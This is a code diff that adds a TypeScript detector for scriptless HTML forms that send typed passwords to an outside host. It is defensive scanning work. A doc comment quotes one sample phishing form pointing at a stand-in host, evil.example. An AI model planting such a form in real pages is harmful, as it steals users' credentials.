@@ -1,0 +1,20 @@
+// A form that a value brings along: no script at all, and what is typed into it goes to a stranger.
+
+import { work } from '../../work.ts'
+import { hostAt, valueAt } from './addresses.ts'
+
+const BODY_MAX = 600
+/** What looking through a form takes. */
+const FORM_WORK = 600
+
+/** `<form action=https://evil.example><input type=password>` */
+export const asksFor = (text: string, open: number, end: number): boolean => {
+  work.left -= FORM_WORK
+  const head = text.slice(open, Math.min(end, open + BODY_MAX)).toLowerCase()
+  const action = valueAt(head, 'action', 0)
+  if (action < 0 || hostAt(head, action) < 0) return false
+  const body = text.slice(end, end + BODY_MAX).toLowerCase()
+  return PASSWORDS.some((type) => body.includes(type))
+}
+
+const PASSWORDS: readonly string[] = ['type=password', 'type="password"', "type='password'"]
